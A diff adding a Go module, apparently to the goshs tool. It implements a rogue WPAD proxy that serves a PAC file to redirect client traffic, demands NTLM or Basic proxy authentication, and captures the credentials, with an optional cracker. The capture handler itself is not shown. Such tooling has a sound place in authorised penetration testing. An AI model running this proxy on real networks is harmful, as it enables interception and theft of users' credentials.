@@ -0,0 +1,134 @@
+package wpadserver
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"time"
+
+	"goshs.de/goshs/v2/logger"
+	"goshs.de/goshs/v2/options"
+	"goshs.de/goshs/v2/smbserver"
+	"goshs.de/goshs/v2/webhook"
+	"goshs.de/goshs/v2/ws"
+)
+
+const (
+	AuthNTLM  = "ntlm"
+	AuthBasic = "basic"
+)
+
+// WPADServer is an HTTP proxy listener that demands proxy authentication and
+// captures the credentials. Clients are pointed at it by the PAC file the
+// HTTP server hands out on /wpad.dat and /proxy.pac.
+type WPADServer struct {
+	IP       string
+	Port     int
+	Auth     string             // "ntlm" or "basic"
+	Forward  bool               // forward requests after capture instead of refusing them
+	Realm    string             // NetBIOS/realm name advertised in challenges
+	Cracker  *smbserver.Cracker // optional shared background cracker
+	Hub      *ws.Hub
+	WebHook  *webhook.Webhook
+	server   *http.Server
+	dialer   *net.Dialer
+	upstream *http.Transport
+}
+
+func NewWPADServer(opts *options.Options, hub *ws.Hub, wh *webhook.Webhook) *WPADServer {
+	auth := strings.ToLower(opts.WPADAuth)
+	if auth != AuthBasic {
+		auth = AuthNTLM
+	}
+	realm := strings.ToUpper(opts.SMBDomain)
+	if realm == "" {
+		realm = "GOSHS"
+	}
+
+	dialer := &net.Dialer{Timeout: 10 * time.Second}
+	return &WPADServer{
+		IP:      opts.IP,
+		Port:    opts.WPADPort,
+		Auth:    auth,
+		Forward: opts.WPADForward,
+		Realm:   realm,
+		Hub:     hub,
+		WebHook: wh,
+		dialer:  dialer,
+		upstream: &http.Transport{
+			Proxy:                 nil, // never chain to another proxy
+			DialContext:           dialer.DialContext,
+			TLSHandshakeTimeout:   10 * time.Second,
+			ResponseHeaderTimeout: 30 * time.Second,
+		},
+	}
+}
+
+// Listen binds the proxy listener and serves it in the background.
+func (s *WPADServer) Listen() error {
+	addr := net.JoinHostPort(s.IP, strconv.Itoa(s.Port))
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		return err
+	}
+
+	mode := "refusing"
+	if s.Forward {
+		mode = "forwarding"
+	}
+	logger.Infof("WPAD proxy listening on %s (auth: %s, %s after capture)", addr, s.Auth, mode)
+
+	s.server = &http.Server{
+		Handler:           s,
+		ReadHeaderTimeout: 10 * time.Second,
+		ErrorLog:          log.New(io.Discard, "", 0),
+		ConnContext: func(ctx context.Context, c net.Conn) context.Context {
+			// NTLM authenticates the connection, not the request, so the
+			// handshake state has to live as long as the TCP connection.
+			return context.WithValue(ctx, connStateKey{}, &connState{})
+		},
+	}
+	go s.serve(s.server, ln)
+	return nil
+}
+
+func (s *WPADServer) serve(server *http.Server, ln net.Listener) {
+	if err := server.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) {
+		logger.Errorf("WPAD proxy stopped: %v", err)
+	}
+}
+
+// Shutdown gracefully stops the proxy listener, the connections still open
+// when ctx is done are closed.
+func (s *WPADServer) Shutdown(ctx context.Context) error {
+	if s.server == nil {
+		return nil
+	}
+	err := s.server.Shutdown(ctx)
+	if err != nil {
+		_ = s.server.Close()
+	}
+	return err
+}
+
+// GeneratePAC returns a proxy auto-config script that sends all traffic
+// except local and plain host names through proxyHost:proxyPort.
+func GeneratePAC(proxyHost string, proxyPort int) []byte {
+	proxy := net.JoinHostPort(proxyHost, strconv.Itoa(proxyPort))
+	return fmt.Appendf(nil, `function FindProxyForURL(url, host) {
+  if (isPlainHostName(host) ||
+      host == "%s" ||
+      shExpMatch(host, "localhost") ||
+      shExpMatch(host, "127.*")) {
+    return "DIRECT";
+  }
+  return "PROXY %s; DIRECT";
+}
+`, proxyHost, proxy)
+}